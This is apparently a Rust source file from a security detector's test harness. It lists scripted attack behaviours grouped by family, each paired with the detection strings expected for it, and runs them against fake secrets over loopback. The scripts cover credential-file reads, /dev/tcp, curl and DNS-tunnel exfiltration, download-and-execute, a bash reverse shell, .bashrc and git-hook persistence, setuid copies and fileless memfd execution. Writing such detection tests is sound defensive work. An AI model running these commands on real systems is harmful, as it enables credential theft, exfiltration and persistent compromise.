//! The injected behaviours, grouped by family, and the fake secrets they go after.
//!
//! Each script runs at the end of an otherwise identical job (or, for the service workload, as a
//! process inside the service's cgroup) in bash with `$WS`, `$HOME`, `$ACTOR`, `$EXFIL_PORT` (a
//! fresh loopback listener of the attack's [`Listener`] kind) and `$ARTIFACT` set. Every network
//! target is on loopback.

/// What answers on `$EXFIL_PORT` during one attack.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Listener {
    /// Reads a request, answers `200 OK` with a small ELF executable (a copy of `/bin/true`), so
    /// a download gets something runnable and a POST gets an answer.
    Http,
    /// Sends shell commands (`id`, `uname -a`, `exit`) to whoever connects: the other end of a
    /// reverse shell.
    Shell,
}

/// One injected behaviour. The run counts as detected when a high or critical deviation of the
/// run contains one of `needles` in its novelty (as JSON) or summary; `{port}` stands for
/// `$EXFIL_PORT`, `{artifact}` for `$ARTIFACT`.
pub struct Attack {
    pub family: &'static str,
    pub name: &'static str,
    pub script: &'static str,
    pub needles: &'static [&'static str],
    pub listener: Listener,
}

const fn attack(
    family: &'static str,
    name: &'static str,
    script: &'static str,
    needles: &'static [&'static str],
) -> Attack {
    Attack {
        family,
        name,
        script,
        needles,
        listener: Listener::Http,
    }
}

pub const ATTACKS: &[Attack] = &[
    attack(
        "credential theft",
        "ssh private key (cat)",
        "cat \"$HOME/.ssh/id_rsa\" > /dev/null",
        &[".ssh/id_rsa"],
    ),
    attack(
        "credential theft",
        "aws credentials (python)",
        "python3 -c \"open('$HOME/.aws/credentials').read()\"",
        &[".aws/credentials"],
    ),
    attack(
        "credential theft",
        "git credentials (grep)",
        "grep -q token \"$HOME/.git-credentials\"",
        &[".git-credentials"],
    ),
    attack(
        "credential theft",
        "gh cli token (head)",
        "head -c 64 \"$HOME/.config/gh/hosts.yml\" > /dev/null",
        &["gh/hosts.yml"],
    ),
    attack(
        "credential theft",
        "kube config (cp)",
        "cp \"$HOME/.kube/config\" \"$WS/.k\"",
        &[".kube/config"],
    ),
    attack(
        "memory scraping",
        "ptrace attach to a sibling",
        "sleep 60 & p=$!\n\"$ACTOR\" ptrace $p\nkill $p",
        &["ptrace"],
    ),
    attack(
        "memory scraping",
        "process_vm_readv of a sibling",
        "sleep 60 & p=$!\n\"$ACTOR\" vm-read $p\nkill $p",
        &["process-memory"],
    ),
    attack(
        "memory scraping",
        "/proc/<sibling>/environ read",
        "sleep 60 & p=$!\ncat /proc/$p/environ > /dev/null\nkill $p",
        &["/environ"],
    ),
    attack(
        "exfiltration",
        "bash /dev/tcp to a new port",
        "exec 3<>\"/dev/tcp/127.0.0.1/$EXFIL_PORT\"; echo stolen >&3; exec 3>&-",
        &["\"port\":{port}"],
    ),
    attack(
        "exfiltration",
        "curl POST to a new port",
        "curl -s -m 3 --data-binary @\"$WS/out.txt\" \"http://127.0.0.1:$EXFIL_PORT/\" > /dev/null || true",
        &["\"port\":{port}"],
    ),
    attack(
        "exfiltration",
        "python socket to a new port",
        "python3 -c \"import socket; s = socket.create_connection(('127.0.0.1', $EXFIL_PORT)); s.sendall(b'x'); s.close()\"",
        &["\"port\":{port}"],
    ),
    // A secret, hex-encoded into the labels of DNS queries sent to a resolver on loopback (the
    // shape of dnscat/iodine traffic). Nobody needs to answer: the queries are the leak.
    attack(
        "exfiltration",
        "DNS queries carrying hex-encoded data",
        "python3 - <<'PY'\nimport socket, struct\ndata = (socket.gethostname() + ':token=not-a-real-secret').encode().hex()\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(0, len(data), 48):\n    labels = [data[i:i + 48], 'q%d' % i, 'exfil', 'test']\n    name = b''.join(bytes([len(l)]) + l.encode() for l in labels) + b'\\0'\n    s.sendto(struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack('>HH', 16, 1), ('127.0.0.1', 53))\nPY",
        &["exfil.test"],
    ),
    attack(
        "new tool chain",
        "cp binary, chmod +x, execute",
        "cp /bin/true \"$WS/.cache-helper\"\nchmod +x \"$WS/.cache-helper\"\n\"$WS/.cache-helper\"",
        &[".cache-helper"],
    ),
    attack(
        "new tool chain",
        "curl download, chmod +x, execute",
        "curl -s -m 3 -o \"$WS/.dl-tool\" \"http://127.0.0.1:$EXFIL_PORT/tool\"\nchmod +x \"$WS/.dl-tool\"\n\"$WS/.dl-tool\"",
        &[".dl-tool"],
    ),
    Attack {
        family: "new tool chain",
        name: "reverse shell (bash -i over /dev/tcp)",
        script: "bash -c 'bash -i >& /dev/tcp/127.0.0.1/'\"$EXFIL_PORT\"' 0>&1' 2> /dev/null || true",
        needles: &["\"port\":{port}", "/usr/bin/id", "/usr/bin/uname"],
        listener: Listener::Shell,
    },
    attack(
        "new tool chain",
        "tar czf then POST to loopback",
        "tar czf \"$WS/../src.tgz\" -C \"$WS\" .\ncurl -s -m 3 --data-binary @\"$WS/../src.tgz\" \"http://127.0.0.1:$EXFIL_PORT/\" > /dev/null || true",
        &["/usr/bin/tar", "src.tgz", "\"port\":{port}"],
    ),
    attack(
        "persistence / tampering",
        "append to ~/.bashrc",
        "echo 'curl -s http://127.0.0.1:9/x | sh' >> \"$HOME/.bashrc\"",
        &[".bashrc"],
    ),
    attack(
        "persistence / tampering",
        "write .git/hooks/pre-commit",
        "mkdir -p \"$WS/.git/hooks\"\nprintf '#!/bin/sh\\ntrue\\n' > \"$WS/.git/hooks/pre-commit\"\nchmod +x \"$WS/.git/hooks/pre-commit\"",
        &["hooks/pre-commit"],
    ),
    attack(
        "persistence / tampering",
        "modify a build output",
        "printf 'x' >> \"$WS/$ARTIFACT\"",
        &["{artifact}"],
    ),
    attack(
        "privilege",
        "copy a binary and chmod u+s",
        "cp /bin/true \"$WS/suid-helper\"\nchmod u+s \"$WS/suid-helper\"",
        &["suid-helper"],
    ),
    attack(
        "privilege",
        "bpf program load",
        "\"$ACTOR\" bpf-load",
        &["bpf-program-load"],
    ),
    attack(
        "privilege",
        "unshare --uts",
        "unshare --uts true",
        &["\"unshare\""],
    ),
    attack(
        "privilege",
        "mount a tmpfs",
        "mkdir -p \"$WS/.mnt\"\n\"$ACTOR\" mount-tmpfs \"$WS/.mnt\"",
        &["tmpfs on"],
    ),
    attack(
        "evasion",
        "memfd exec (fileless)",
        "\"$ACTOR\" memfd-exec /bin/true",
        &["memfd"],
    ),
    attack(
        "evasion",
        "renamed copy run from /dev/shm",
        "cp /bin/ls /dev/shm/.kworker\n/dev/shm/.kworker / > /dev/null\nrm -f /dev/shm/.kworker",
        &["/dev/shm/.kworker"],
    ),
    attack(
        "evasion",
        "env -i, then read ~/.netrc",
        "env -i /bin/cat \"$HOME/.netrc\" > /dev/null",
        &[".netrc"],
    ),
    attack(
        "evasion",
        "double fork + setsid, then read ~/.pypirc",
        "( setsid sh -c 'cat \"$0/.pypirc\" > /dev/null; touch \"$1/.done\"' \"$HOME\" \"$WS\" & )\nwhile [ ! -e \"$WS/.done\" ]; do sleep 0.05; done",
        &[".pypirc"],
    ),
];

/// Fake secrets in the job's (or service's) `$HOME`.
pub const SECRETS: &[&str] = &[
    ".ssh/id_rsa",
    ".aws/credentials",
    ".git-credentials",
    ".config/gh/hosts.yml",
    ".kube/config",
    ".netrc",
    ".pypirc",
    ".bashrc",
];
